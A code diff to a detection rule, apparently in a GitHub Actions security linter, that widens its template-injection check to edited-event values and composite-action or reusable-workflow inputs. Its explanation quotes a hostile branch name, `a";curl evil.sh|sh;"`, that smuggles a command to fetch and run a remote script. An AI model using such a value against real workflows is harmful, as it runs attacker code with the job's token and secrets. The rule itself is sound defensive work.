@@ -336,7 +336,13 @@ RULE = Rule(
         "(or serialize the event that holds it, `toJSON(github.event)`): issue, pull request, "
         "discussion and comment titles "
         "and bodies, commit messages and authors, `github.head_ref` and the pull request's head "
-        "branch and label, and the same fields of `workflow_run`.",
+        "branch and label, the same fields of `workflow_run`, and an edited event's previous "
+        "values (`github.event.changes.*`). An input of a composite action or a reusable "
+        "workflow (`${{ inputs.x }}`) is flagged too: high when a caller in this repository "
+        "passes it such text, medium when the action or workflow is for other repositories "
+        "(an action outside `.github/`, a workflow that runs only on `workflow_call`), whose "
+        "callers pass what they like. zizmor's `# zizmor: ignore[template-injection]` is "
+        "honoured.",
         why="`${{ }}` is replaced before the shell sees the script, so the value becomes code. A "
         'branch named `a";curl evil.sh|sh;"` runs that command, with the job\'s token and '
         "secrets. An environment variable is data: the shell never reads it as code.",
